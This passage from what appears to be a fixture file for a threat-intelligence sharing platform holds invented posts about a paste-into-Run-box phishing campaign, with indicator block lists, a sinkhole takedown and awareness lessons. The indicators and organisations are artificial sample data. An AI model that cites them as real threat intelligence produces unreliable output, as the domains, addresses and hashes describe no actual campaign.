      'All 14 from shared reading-room PCs, none from laptops. Cookie banners have trained people to press whatever is green.',
    technical: {
      notes: 'Nothing new, only the count per name. We expire each after 7 days, otherwise the list is 90 % dead.',
      indicators: [
        ['domain', 'heather-panecare.example', 'phishing-page', 'block'],
        ['domain', 'iron-panecare.example', 'phishing-page', 'block'],
        ['domain', 'juniper-tabcare.example', 'phishing-page', 'block'],
        ['ipv4', '192.0.2.203', 'payload-host', 'block'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER+STRICT' },
    grants: [{ layer: 'technical', to: ['pharma', 'desk'], as: 'withheld' }],
    thread: [
      {
        by: 'kestrelmoor',
        after: 90,
        layer: 'headline',
        as: 'named',
        text: 'Reading room here too. We put a sticker on the monitors: "No page needs Windows+R." Silly, works.',
      },
      { by: 'wendlebury', after: 1510, layer: 'headline', as: 'named', text: 'Sticker ordered.' },
    ],
    sightings: [{ by: 'kestrelmoor', after: 88, count: 5, as: 'named' }],
  },
  {
    key: 'blue-ferret-19',
    by: 'harrowdale',
    kind: 'experience',
    daysAgo: 92,
    at: '16:05',
    title: 'We sent the self-check to 212 small firms. 58 did it, 6 found something',
    summary:
      'As the WARP for our area we posted the ten-minute self-check on paper, with a stamp. 58 came back, six firms found the pasted command in their history and had no idea.',
    full: {
      story: `Why on paper: the last e-mail about a security check was reported to us as phishing, by nine of them, and I was proud.

- 212 letters, one page, six questions, a reply envelope
- 58 replies in three weeks (27 %)
- 6 had found the command in the Run history: a garage, two cafés, a vet, a solicitor's branch and a scout group
- 3 of the 6 had since lost something: one shop account, one social media page, one mailbox

What people found hard: question 4 (registry). We now send a picture with an arrow. What people liked: the box at the bottom that said *"Nothing found? Then you are done. Put the kettle on."*

Cost: £311 and four afternoons. I would do it again for anything that ordinary people can check by themselves.`,
      impact: 'Six firms helped, three after the fact.',
    },
    tlp: { headline: 'CLEAR', full: 'GREEN' },
    grants: [{ layer: 'full', to: ['everyone'], as: 'named' }],
    thread: [
      {
        by: 'ncac',
        after: 40,
        layer: 'full',
        as: 'named',
        text: 'The picture with an arrow goes into the next edition, credited. Ruth',
      },
      {
        by: 'emcu',
        after: 130,
        layer: 'full',
        as: 'named',
        text: 'Would like to repeat this in five forces. May we have the letter?',
      },
      { by: 'harrowdale', after: 155, layer: 'full', as: 'named', text: 'Take it. Change the phone number!' },
      {
        by: 'greywether',
        after: 300,
        layer: 'headline',
        as: 'named',
        text: 'Jill this beats our last three campaigns put together and I am not even joking.',
      },
    ],
  },
  {
    key: 'blue-ferret-20',
    by: 'bg-other-11',
    kind: 'incident',
    daysAgo: 74,
    at: '15:33',
    title: 'Quiet for two weeks, then a voice version',
    summary:
      'A caller "from IT" talked one of our people through the same Windows+R steps by telephone. The page is no longer needed. Completed, contained.',
    technical: {
      notes: "Same program, fourth build, old exfiltration name. Caller's number shown as 01632 960155.",
      indicators: [
        ['domain', 'inkpot-metrics.example', 'exfiltration', 'block'],
        ['sha256', '4804dc986e402cc4db7fdbe7ebdc3636f905d872197d5e8cd9f5d656b219de14', 'payload', 'block'],
        ['mutex', 'Global\\inkpot_81', 'payload', 'detect'],
      ],
    },
    tlp: { headline: 'AMBER', technical: 'AMBER' },
    grants: [
      {
        layer: 'technical',
        to: ['desk', 'fenbridge', 'harrowdale', 'lindfell', 'wreakevale', 'halvergate'],
        as: 'withheld',
      },
    ],
    thread: [
      {
        by: 'lindfell',
        after: 85,
        layer: 'technical',
        as: 'named',
        text: 'Number is spoofed, it belongs to a theatre that closed years ago.',
      },
      {
        by: 'fenbridge',
        after: 190,
        layer: 'technical',
        as: 'named',
        text: "Added to the switchboard's notice. No calls here that we know of.",
      },
    ],
    sightings: [{ by: 'wreakevale', after: 400, count: 1, as: 'named' }],
    withdrawn: [{ after: 22727, reason: 'sinkholed', indicator: 'inkpot-metrics.example' }],
  },
  {
    key: 'blue-ferret-21',
    by: 'wreakevale',
    kind: 'campaign',
    daysAgo: 58,
    at: '10:20',
    title: 'Inkpot server is down, and here is what it knew',
    summary:
      "The exfiltration server was taken over with its provider's help. It is a sinkhole now. A hit on it means an old infection that is still trying, not a new theft.",
    technical: {
      notes: `    runs   : 14 days
    clients: 1,902 distinct sets seen by the server before the takeover
    since  : 31 addresses still calling, all fourth build

If you see the name resolve to the sinkhole, find the machine, but nothing leaves any more.`,
      indicators: [
        ['domain', 'inkpot-metrics.example', 'sinkhole', 'context'],
        ['ipv4', '203.0.113.196', 'sinkhole', 'context'],
        ['domain', 'inkpot-metrics.invalid', 'sinkhole', 'context'],
      ],
    },
    tlp: { headline: 'GREEN', technical: 'GREEN' },
    grants: [{ layer: 'technical', to: ['everyone'], as: 'named' }],
    thread: [
      {
        by: 'bg-finance-28',
        after: 66,
        layer: 'technical',
        as: 'withheld',
        text: 'One machine of ours among the 31, a loan laptop in a drawer. How did it call from a drawer?',
      },
      { by: 'wreakevale', after: 80, layer: 'technical', as: 'named', text: 'Somebody borrows it. Ask nicely.' },
      {
        by: 'marlpit',
        after: 1430,
        layer: 'headline',
        as: 'named',
        text: 'Very good work Lena. Our list followed within the minute, I looked.',
      },
    ],
    sightings: [
      { by: 'bg-finance-28', after: 65, count: 1, as: 'withheld' },
      { by: 'bg-yorkshire-18', after: 1204, count: 1, as: 'withheld' },
      { by: 'bg-eastmid-27', after: 1890, count: 2, as: 'withheld' },
      { by: 'mournecraft', after: 3002, count: 1, as: 'named' },
    ],
  },
  {
    key: 'blue-ferret-22',
    by: 'copperbeech',
    kind: 'experience',
    daysAgo: 42,
    at: '08:55',
    title: 'Closing note: what eleven schools would tell you about the paste page',
    summary:
      'Nothing new for six weeks, so a summary of what helped in schools. In short: take away the Run box, stop saving passwords on shared machines, and make it safe to own up.',
    full: {
      story: `Over four months: 41 people saw the page and told us, 12 pasted, 3 accounts were misused.

**Helped**

- Run box off for pupils (an hour's work)
- password saving off on shared machines
- a form with *one* question: "I think I did something silly." 26 people used it. Median time from paste to form: **14 minutes**. Before the form it was two days, or never.

**Did not help**

- the poster with the hooded man
- blocking names, by the time we had them
- the quiz

Own-up rates went up after a head teacher told assembly that she had nearly done it herself. I would not have thought of asking her to; she just did. If you do only one thing from this list, do that.`,
      impact: 'Three accounts misused in four months, all recovered.',
    },
    tlp: { headline: 'GREEN', full: 'GREEN' },
    grants: [{ layer: 'full', to: ['everyone'], as: 'named' }],
    thread: [
      {
        by: 'fenbridge',
        after: 110,
        layer: 'full',
        as: 'named',
        text: 'The one-question form is the best idea in this whole story. Stealing it for wards.',
      },
      {
        by: 'bg-eastmid-08',
        after: 160,
        layer: 'headline',
        as: 'withheld',
        text: 'Tell your head teacher she has fans.',
      },
      {
        by: 'copperbeech',
        after: 175,
        layer: 'headline',
        as: 'named',
        text: 'I have shown her this and she has gone red. Yusuf',
      },
    ],
  },
]
